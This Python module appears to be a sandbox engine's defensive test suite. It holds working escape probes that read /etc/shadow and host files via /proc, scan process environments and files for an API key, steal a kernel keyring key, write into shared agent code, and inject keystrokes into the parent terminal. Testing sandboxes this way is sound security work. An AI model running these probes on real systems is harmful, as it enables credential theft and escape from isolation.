"""Attacks from inside a session on the machine: its kernel, its files, its processes, its services, its keys."""

import ctypes
import os
import secrets
import socket
import subprocess
import sys
import tempfile
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path

from sessionbay.engine.agent.inside.group_memory import descriptors
from sessionbay.engine.sandbox.sandbox import Sandbox

from .attack import add, attack
from .defences_off import Off, agent_with, as_engine, both, soft, spawned, without, words
from .scene import Scene, got, output, python

NAMESPACES = ("namespaces",)
ROOT = ("namespaces", "root")
RIGHTS = "rights of root"
KERNEL = "attack surface of the kernel"
HOST = "the host's files"
SERVICES = "the host's services"
SECRETS = "secrets of the host"

CALL = """
import ctypes, errno
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def call(*words):
    ctypes.set_errno(0)
    given = libc.syscall(*(ctypes.c_long(word) if isinstance(word, int) else word for word in words))
    return given, errno.errorcode.get(ctypes.get_errno(), "0")
"""


def inside(scene: Scene, code: str) -> str | None:
    """Run a program in a new session; what it says after ``got:`` is what the attack got."""
    reported = python(scene.session(), code)
    return got(reported)


# --- rights


def host_root(scene: Scene) -> None:
    """Run a session as root is on the host: without a user namespace, with all capabilities."""
    as_engine(scene)
    without("--unshare-user", "--disable-userns")(scene)
    without("--cap-drop", "--uid", "--gid", values=1)(scene)
    words(lambda argv: [*argv, "--cap-add", "ALL"])(scene)
    soft("seccomp", "no_new_privs", "dumpable")(scene)


@attack(
    RIGHTS, "each session is an ordinary user of its own, also for an engine that root started", host_root, needs=ROOT
)
def to_be_root_on_the_host(scene: Scene) -> str | None:
    """Look from the host at who the session's processes really are."""
    session = scene.session()
    mark = secrets.token_hex(8)
    started = "until [ -e started ]; do :; done"  # while it executes another program, a process has no command line
    session.command.run(f"nohup sh -c 'echo >started; sleep 30; : {mark}' >/dev/null 2>&1 & {started}")
    for folder in Path("/proc").glob("[0-9]*"):
        try:
            if mark.encode() in (folder / "cmdline").read_bytes() and folder.stat().st_uid == 0:
                return folder.name
        except OSError:
            continue
    return None


@attack(RIGHTS, "no capabilities", host_root, needs=ROOT)
def capabilities(scene: Scene) -> str | None:
    """Read which capabilities a command has, or could get."""
    reported = output(scene.session(), "grep -E 'Cap(Eff|Prm|Bnd|Amb)' /proc/self/status")
    return reported if set(reported.replace("Cap", "").split()[1::2]) != {"0" * 16} else None


@attack(RIGHTS, "no capabilities, and a user that is nobody on the host", host_root, needs=ROOT)
def settings_of_the_kernel(scene: Scene) -> str | None:
    """Open the host's settings of the kernel for writing: its name, and the program that takes its core dumps."""
    names = ("hostname", "core_pattern", "modprobe")
    tries = "".join(f"( : >>/proc/sys/kernel/{name} ) 2>/dev/null && echo {name}; " for name in names)
    return output(scene.session(), f"{tries} true") or None


@attack(RIGHTS, "no capabilities, no user namespace to get them in", host_root, needs=ROOT)
def mounting_anew(scene: Scene) -> str | None:
    """Mount the read-only system anew, to be written."""
    session = scene.session()
    code = "print('got: mounted' if libc.mount(b'none', b'/usr', None, 32 | 4096, None) == 0 else 'refused')"
    return got(python(session, f"{CALL}{code}"))


@attack(RIGHTS, "no_new_privs, which bubblewrap sets by itself and the agent for plain processes", soft("no_new_privs"))
def programs_that_give_rights(scene: Scene) -> str | None:
    """Count on a set-user-id program of the machine's, where sessions are plain processes."""
    reported = output(scene.session(scene.started(isolation="process")), "grep NoNewPrivs /proc/self/status")
    return None if reported.split()[-1] == "1" else reported


# --- the kernel


def numbers(x86: int, arm: int) -> int:
    return {"x86_64": x86, "aarch64": arm}[os.uname().machine]


CALLS: dict[str, tuple[str, str]] = {
    "io-uring": ("io_uring_setup: asynchronous I/O, past most filters.", f"{numbers(425, 425)}, 1, 0"),
    "userfaultfd": ("userfaultfd: holds the kernel in the middle of a copy.", f"{numbers(323, 282)}, 1"),
    "perf-events": ("perf_event_open: counters of the whole machine.", f"{numbers(298, 241)}, 0, 0, -1, -1, 0"),
    "mount-tree": ("open_tree: the first of the newer calls for mounts.", f"{numbers(428, 428)}, -100, b'/', 0"),
    "other-namespaces": ("setns: into another namespace.", f"{numbers(308, 268)}, -1, 0"),
    "new-keys": (
        "add_key: memory of the kernel's, and a name for it.",
        f"{numbers(248, 217)}, b'user', b'a', b'b', 1, -2",
    ),
    "clone-three": ("clone3: namespaces by flags that no filter can read.", f"{numbers(435, 435)}, 0, 0"),
    "console-menu": ("ioctl TIOCLINUX: pastes into a console.", f"{numbers(16, 29)}, 0, 0x541C, 0"),
    "typing-with-high-bits": (
        "ioctl TIOCSTI, with bits set that the kernel does not look at and a careless filter does.",
        f"{numbers(16, 29)}, 0, 0x100005412, 0",
    ),
}


def calling(words: str) -> Callable[[Scene], str | None]:
    return lambda scene: inside(
        scene,
        f"{CALL}given = call({words})\nif given[0] >= 0 or given[1] not in ('EPERM', 'ENOSYS'): print('got:', given)",
    )


for _kind, (_about, _words) in CALLS.items():
    add(f"call-{_kind}", KERNEL, "seccomp", calling(_words), soft("seccomp"), _about)


nested = both(soft("seccomp"), without("--disable-userns"))


@attack(KERNEL, "--disable-userns, and seccomp", nested, needs=NAMESPACES)
def namespaces_in_namespaces(scene: Scene) -> str | None:
    """A user namespace of the session's own, in which it has all capabilities."""
    return inside(scene, f"{CALL}print('got: one' if libc.unshare(0x10000000) == 0 else 'refused')")


# --- files


def host_file(scene: Scene, folder: str) -> Path:
    """Return a file of the host's that everyone may read."""
    made = tempfile.mkdtemp(prefix="attack-", dir=folder)
    Path(made).chmod(0o755)
    scene.ending.callback(lambda: subprocess.run(["rm", "-rf", made], check=True))
    found = Path(made, "secret")
    found.write_text("the host's secret")
    return found


def reading(folder: str) -> Callable[[Scene], str | None]:
    def attempt(scene: Scene) -> str | None:
        secret = host_file(scene, folder)
        session = scene.session()
        ways = (f"{way}{secret}" for way in ("", "/proc/1/root", "/proc/self/root", "/../.."))
        return output(session, f"cat {' '.join(ways)} 2>/dev/null") or None

    return attempt


def _without_remounts(argv: list[str]) -> list[str]:
    place = argv.index("--remount-ro")
    end = max(i for i, word in enumerate(argv) if word == "--remount-ro") + 2
    return [*argv[:place], *argv[end:]]


def with_mounts(folders: Callable[[], list[str]]) -> Off:
    """Mount more of the host's folders, to be written."""
    return words(lambda argv: _without_remounts(argv) + [word for path in folders() for word in ("--bind", path, path)])


FOLDERS = {
    "temporary-files": "/tmp",
    "shared-memory": "/dev/shm",
    "variable-files": "/var/tmp",
}
for _kind, _folder in FOLDERS.items():
    add(
        f"file-in-{_kind}",
        HOST,
        "a file system of the session's own: the host's is not in it",
        reading(_folder),
        with_mounts([_folder].copy),
        f"Read a file in {_folder} of the host, by its path and through /proc.",
        needs=NAMESPACES,
    )


whole_etc = both(as_engine, words(lambda argv: [*_without_remounts(argv), "--ro-bind", "/etc/shadow", "/etc/shadow"]))


@attack(HOST, "of /etc only what programs need is there, and the users are made up", whole_etc, needs=ROOT)
def passwords(scene: Scene) -> str | None:
    """Read the passwords of the host."""
    return output(scene.session(), "cat /etc/shadow 2>/dev/null") or None


def agent_to_write(scene: Scene) -> None:
    """Mount what all sessions share so that it can be written."""
    shared = scene.engine._engine.backend.shared
    for path in (shared, *shared.rglob("*")):
        before = path.stat().st_mode
        scene.ending.callback(path.chmod, before)
        path.chmod(0o777)
    words(lambda argv: ["--bind" if _mounts_agent(argv, i) else word for i, word in enumerate(argv)])(scene)


def _mounts_agent(argv: list[str], place: int) -> bool:
    return argv[place] == "--ro-bind" and argv[place + 2] == "/run/sessionbay"


@attack(HOST, "what sessions share is mounted to be read only", agent_to_write, needs=NAMESPACES)
def code_of_all_agents(scene: Scene) -> str | None:
    """Change the agent's own files, from which every later session starts."""
    reported = output(
        scene.session(), "touch /run/sessionbay/inside/evil.py && rm /run/sessionbay/inside/evil.py && echo got"
    )
    return reported if reported == "got" else None


# --- processes and services


@attack("other processes", "a PID namespace", without("--unshare-pid"), needs=NAMESPACES)
def processes_of_the_host(scene: Scene) -> str | None:
    """Find a process of the host's by its command line."""
    mark = secrets.token_hex(8)
    decoy = subprocess.Popen([sys.executable, "-c", "import sys; sys.stdin.read()", mark], stdin=subprocess.PIPE)
    scene.ending.callback(decoy.communicate)
    return inside(
        scene,
        "import glob\n"
        "for name in glob.glob('/proc/[0-9]*/cmdline'):\n"
        "    try: found = open(name, 'rb').read()\n"
        "    except OSError: continue\n"
        f"    if b'{mark[:8]}' + b'{mark[8:]}' in found: print('got:', name)\n",
    )


def connecting(address: Callable[[Scene], str], family: str = "AF_UNIX") -> Callable[[Scene], str | None]:
    return lambda scene: inside(
        scene,
        f"import socket\ns = socket.socket(socket.{family})\ns.settimeout(2)\n"
        f"try:\n    s.connect({address(scene)})\n    print('got: connected')\nexcept OSError as exc: print(exc)\n",
    )


def served(scene: Scene, family: socket.AddressFamily, address: object) -> socket.socket:
    server = scene.ending.enter_context(socket.socket(family))
    server.bind(address)  # type: ignore[arg-type]  # whatever the family's are
    server.listen()
    return server


def on_loopback(scene: Scene) -> str:
    return repr(("127.0.0.1", served(scene, socket.AF_INET, ("127.0.0.1", 0)).getsockname()[1]))


def abstract(scene: Scene) -> str:
    name = f"\0attack-{secrets.token_hex(8)}"
    served(scene, socket.AF_UNIX, name)
    return repr(name)


def in_folder(folder: str) -> Callable[[Scene], str]:
    def address(scene: Scene) -> str:
        made = host_file(scene, folder)
        path = str(made.with_name("socket"))
        served(scene, socket.AF_UNIX, path)
        Path(path).chmod(0o777)
        return repr(path)

    return address


OWN_NETWORK = "a network of the session's own"
share_network = without("--unshare-net")
SOCKETS: dict[str, tuple[str, Callable[[Scene], str], str, Off, str]] = {
    "a-service-on-the-loopback": (
        "Connect to a service on 127.0.0.1.",
        on_loopback,
        "AF_INET",
        share_network,
        OWN_NETWORK,
    ),
    "its-own-engine": (
        "Connect to the engine.",
        lambda scene: repr(("127.0.0.1", scene.port)),
        "AF_INET",
        share_network,
        OWN_NETWORK,
    ),
    "an-abstract-socket": (
        "Connect to an abstract socket, as X11 has.",
        abstract,
        "AF_UNIX",
        share_network,
        OWN_NETWORK,
    ),
    "a-socket-in-tmp": (
        "Connect to a socket in /tmp, as X11 has.",
        in_folder("/tmp"),
        "AF_UNIX",
        with_mounts(lambda: ["/tmp"]),
        "no folder with sockets of the host's is there",
    ),
    "a-socket-in-run": (
        "Connect to a socket in /run, as D-Bus, Docker and agents for keys have.",
        in_folder("/run"),
        "AF_UNIX",
        with_mounts(lambda: [str(path) for path in Path("/run").glob("attack-*")]),
        "no folder with sockets of the host's is there",
    ),
}


for _kind, (_about, _address, _family, _off, _defence) in SOCKETS.items():
    _needs = ROOT if _kind == "a-socket-in-run" else NAMESPACES
    add(f"reach-{_kind}", SERVICES, _defence, connecting(_address, _family), _off, _about, needs=_needs)


@attack(SERVICES, "Landlock, from its sixth version on", soft("landlock"), needs=("scopes",))
def reach_an_abstract_socket_from_a_plain_process(scene: Scene) -> str | None:
    """Connect to an abstract socket, as D-Bus and X11 have, where sessions share the machine's network."""
    address = abstract(scene)
    code = f"import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect({address})\nprint('got: connected')"
    return got(python(scene.session(scene.started(isolation="process")), code))


INVENTORY = """
import os
for line in open("/proc/net/unix").read().splitlines()[1:]:
    if len(line.split()) > 7:
        print("got:", line.split()[7])
for at, inner, found in os.walk("/"):
    inner[:] = [name for name in inner if os.path.join(at, name) not in ("/proc", "/sys", "/usr")]
    for name in found:
        if os.path.exists(path := os.path.join(at, name)) and (os.stat(path).st_mode & 0o170000) == 0o140000:
            print("got:", path)
"""


@attack(SERVICES, OWN_NETWORK, share_network, needs=NAMESPACES)
def inventory_of_sockets(scene: Scene) -> str | None:
    """List all sockets that have a name, abstract or in a folder: each may have somebody behind it who does more."""
    abstract(scene)
    return inside(scene, INVENTORY)


@attack(SERVICES, "an IPC namespace", without("--unshare-ipc"), needs=NAMESPACES)
def memory_of_system_five(scene: Scene) -> str | None:
    """Attach shared memory that a program of the host's has made for all."""
    libc = ctypes.CDLL(None, use_errno=True)
    key = secrets.randbelow(2**30) + 1
    made = libc.shmget(key, 4096, 0o1666)
    scene.ending.callback(lambda: libc.shmctl(made, 0, None))
    return inside(scene, f"{CALL}print('got: it' if libc.shmget({key}, 4096, 0) >= 0 else 'none')")


# --- secrets


def whole_environment(more: dict[str, object]) -> None:
    more["env"] = dict(os.environ)


@attack(SECRETS, "bubblewrap itself starts with an environment of one name", spawned(whole_environment))
def environment_of_the_host(scene: Scene) -> str | None:
    """Look for a variable of the engine's in the environment of every process that can be read."""
    secret = secrets.token_hex(8)
    scene.patch.setenv("ATTACK_CANARY", secret)
    reported = output(scene.session(), "cat /proc/*/environ /proc/*/task/*/environ 2>/dev/null | tr '\\0' '\\n'; env")
    return secret if secret in reported else None


def state_inside(scene: Scene) -> None:
    """Mount the engine's state."""
    with_mounts(lambda: [os.environ["SESSIONBAY_HOME"]])(scene)


LOOK = """
import glob, os, sys
want = "{}".join("{} {}".split()).encode()
skip = ("/usr", "/sys", "/proc")
names = glob.glob("/proc/[0-9]*/cmdline") + glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/self/mount*")
names += [os.path.join(at, name) for at, inner, found in os.walk("/") for name in found if not at.startswith(skip)
          or inner.clear()]
for name in names:
    try:
        if os.path.isfile(name) and os.path.getsize(name) < 100000 and want in open(name, "rb").read():
            print("got:", name)
    except OSError:
        pass
"""


@attack(SECRETS, "the engine's state is not mounted, and only its user may read it", state_inside, needs=NAMESPACES)
def key_of_the_engine(scene: Scene) -> str | None:
    """Look for the key where the engine is published, in the mounts, in /proc, in all files but the system's."""
    home = scene.state()
    home.mkdir(mode=0o755)
    file = home / "engine.json"
    file.write_text(f'{{"api_key": "{scene.key}"}}')
    file.chmod(0o644)
    look = LOOK.replace("{}", "", 1).format(scene.key[:20], scene.key[20:])
    return got(python(scene.session(), look, timeout_ms=100_000))


KEYCTL = numbers(250, 219)
ADD_KEY = numbers(248, 217)
STEAL_KEY = f"""{CALL}
found = call({KEYCTL}, 10, -3, b"user", b"attack:key", 0)[0]
data = ctypes.create_string_buffer(100)
if found > 0 and call({KEYCTL}, 11, found, data, 100)[0] > 0:
    print("got:", data.value.decode())
"""


@attack(SECRETS, "a keyring of the session's own, and seccomp", soft("keyring", "seccomp"))
def key_in_a_keyring(scene: Scene) -> str | None:
    """Read a key from the session keyring of anyone who started the engine."""
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall(KEYCTL, 1, None)  # a keyring of this thread's, which engines that it starts inherit
    key = libc.syscall(ADD_KEY, b"user", b"attack:key", b"secret", 6, -3)
    libc.syscall(KEYCTL, 5, key, 0x3F3F3F3F)
    return got(python(scene.session(scene.started()), STEAL_KEY))


# --- descriptors and terminals


give_all = both(
    spawned(lambda more: more.update(close_fds=False, pass_fds=())),
    agent_with(
        "import functools, subprocess\n"
        "class Open(subprocess.Popen):\n"
        "    def __init__(self, *a, **k): super().__init__(*a, **{**k, 'close_fds': False})\n"
        "run.subprocess.Popen = Open"
    ),
    soft("descriptors", "dumpable", "landlock"),
)


@contextmanager
def inherited(path: str, flags: int) -> Iterator[int]:
    fd = os.open(path, flags)
    os.set_inheritable(fd, True)
    try:
        yield fd
    finally:
        os.close(fd)


def all_inheritable(scene: Scene) -> None:
    """Give a sandbox's first process all that the engine has."""
    give_all(scene)
    real = Sandbox._popen

    def popen(self: Sandbox, argv: list[str], fds: tuple[int, ...], *rest: object, **more: object) -> object:
        for fd in (*fds, *descriptors(self._meters)):
            os.set_inheritable(fd, True)
        return real(self, argv, fds, *rest, **more)  # type: ignore[arg-type]  # whatever it takes

    scene.patch.setattr(Sandbox, "_popen", popen)


def by_descriptor(path: str, flags: int, read: str) -> Callable[[Scene], str | None]:
    def attempt(scene: Scene) -> str | None:
        place = scene.folder / "state"
        place.write_text("the host's secret")
        with inherited(path or str(place), flags) as fd:
            return output(scene.session(), f"cat {read.format(fd=fd)} 2>/dev/null") or None

    return attempt


add(
    "descriptor-of-a-folder",
    "inherited descriptors",
    "every descriptor but the agent's own line is closed, and the agent refuses to start with more",
    by_descriptor(
        "/", os.O_RDONLY | os.O_DIRECTORY, "/proc/self/fd/{fd}/etc/hostname /proc/$PPID/fd/{fd}/etc/hostname"
    ),
    all_inheritable,
    "The host's root, open in the engine and meant to be inherited.",
)
add(
    "descriptor-of-a-file",
    "inherited descriptors",
    "every descriptor but the agent's own line is closed, and the agent refuses to start with more",
    by_descriptor("", os.O_RDWR, "/proc/self/fd/{fd} /proc/$PPID/fd/{fd}"),
    all_inheritable,
    "A file of the engine's, open and meant to be inherited.",
)

TYPE = """
import fcntl, sys
for name in ("/dev/tty", "/dev/stdin", "/dev/stdout", "/dev/stderr"):
    try:
        with open(name, "rb", buffering=0) as terminal:
            for letter in b"PWNED":
                fcntl.ioctl(terminal, 0x5412, bytes([letter]))
    except OSError as exc:
        print(name, exc)
"""


def keep_terminal(scene: Scene) -> None:
    """Leave sessions in the terminal that the engine was started from."""
    without("--new-session")(scene)
    spawned(lambda more: more.update(start_new_session=False))(scene)
    soft("seccomp")(scene)
    agent_with(
        "import subprocess\n"
        "class Same(subprocess.Popen):\n"
        "    def __init__(self, *a, **k): super().__init__(*a, **{**k, 'start_new_session': False})\n"
        "run.subprocess.Popen = Same"
    )(scene)


@attack(
    "terminal injection",
    "a new session without a terminal, and seccomp",
    keep_terminal,
    needs=("namespaces", "tiocsti"),
)
def typing_into_the_terminal(scene: Scene) -> str | None:
    """Type into the terminal that the engine was started from; its user would run it next."""
    import pty
    import termios

    child, master = pty.fork()
    if child == 0:
        typed = b""
        try:
            attributes = termios.tcgetattr(0)
            attributes[3] &= ~(termios.ICANON | termios.ECHO)
            termios.tcsetattr(0, termios.TCSANOW, attributes)
            engine = scene.started()
            python(scene.session(engine), TYPE)
            os.set_blocking(0, False)
            typed = os.read(0, 100)
        except BaseException as exc:  # noqa: BLE001  # it is a process of its own, which says all by its code
            typed = b"" if isinstance(exc, BlockingIOError) else typed
        finally:
            os._exit(3 if b"PWNED" in typed else 0)
    os.set_blocking(master, True)
    try:
        while os.read(master, 4096):
            pass
    except OSError:
        pass  # the terminal's other side is gone
    os.close(master)
    return "typed" if os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 3 else None
